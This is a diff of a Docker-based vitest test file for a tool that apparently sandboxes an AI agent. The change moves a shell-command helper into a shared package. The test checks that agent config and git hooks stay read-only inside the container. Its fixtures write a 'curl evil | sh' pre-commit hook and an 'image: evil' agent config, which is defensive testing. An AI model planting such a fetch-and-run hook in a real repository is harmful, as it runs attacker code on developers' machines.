@@ -2,7 +2,7 @@ import { execFileSync } from "node:child_process";
 import { existsSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { fileURLToPath } from "node:url";
-import { buildTestRegistryImage, busyboxContext, busyboxGitContext } from "@claude-bottle/test-support";
+import { attempt, buildTestRegistryImage, busyboxContext, busyboxGitContext } from "@claude-bottle/test-support";
 import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
 import { containersLabelled, docker, removeAgentTraces, removeHomesOf, requireDocker } from "./support/docker.js";
 import { createProject, type TestProject } from "./support/project.js";
@@ -45,7 +45,6 @@ describe("a bottle is a one-way door (docker)", () => {
   });
 
   it("inside the bottle, .claude-bottle, .git/hooks and .git/config are read-only, while git add and commit work", async () => {
-    const attempt = (name: string, command: string) => `if (${command}) 2>/dev/null; then echo "${name}: written"; else echo "${name}: refused"; fi`;
     const script = [
       attempt("agent file", "mkdir -p /workspace/.claude-bottle/agents && echo 'image: evil' > /workspace/.claude-bottle/agents/claude.yaml"),
       attempt("hook", "echo 'curl evil | sh' > /workspace/.git/hooks/pre-commit && chmod +x /workspace/.git/hooks/pre-commit"),
